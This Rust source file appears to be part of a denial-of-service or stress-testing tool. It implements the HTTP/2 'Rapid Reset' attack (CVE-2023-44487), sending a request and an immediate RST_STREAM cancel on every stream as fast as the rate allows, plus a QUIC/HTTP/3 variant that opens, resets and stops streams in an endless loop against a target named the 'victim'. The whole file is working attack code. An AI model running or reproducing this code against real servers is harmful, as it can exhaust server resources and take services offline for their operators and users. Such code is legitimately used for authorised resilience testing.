//! Requests that are reset as soon as they are sent: they cause work for the server, and their responses never count
//! towards the limit of concurrent ones.

use std::io;

use tokio::io::{AsyncWriteExt, WriteHalf};

use super::Force;
use crate::wire::{Head, h2, h2_frame};

/// `CANCEL` (RFC 9113 §7).
const CANCEL: u32 = 8;
/// `H3_REQUEST_CANCELLED` (RFC 9114 §8.1).
const REQUEST_CANCELLED: quinn::VarInt = quinn::VarInt::from_u32(0x010c);

/// CVE-2023-44487: as fast as the rate allows, without regard to the limit of concurrent streams.
pub(super) async fn http2(force: &Force, number: usize) -> io::Result<()> {
    let head = Head::get(force.victim.title.as_str());
    let requests = async |writing: &mut WriteHalf<_>| {
        for stream in (1..u32::MAX >> 1).step_by(2) {
            force.act().await;
            let reset = h2_frame(h2::RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            writing
                .write_all(&[head.http2(stream, true), reset].concat())
                .await?;
        }
        Ok(())
    };
    force.http2(number, requests).await
}

pub(super) async fn http3(force: &Force, number: usize) -> io::Result<()> {
    let connection = force.quic(number, |_| {}).await?;
    let _open = force.tally.open();
    let head = Head::get(force.victim.title.as_str()).http3();
    loop {
        force.act().await;
        let (mut sending, mut receiving) = connection.open_bi().await?;
        sending.write_all(&head).await?;
        // Alternates between resets before the end of the request and refusals of the response.
        if force
            .scheduled
            .load(std::sync::atomic::Ordering::Relaxed)
            .is_multiple_of(2)
        {
            sending.reset(REQUEST_CANCELLED).map_err(io::Error::other)?;
        } else {
            sending.finish().map_err(io::Error::other)?;
        }
        receiving.stop(REQUEST_CANCELLED).map_err(io::Error::other)?;
    }
}
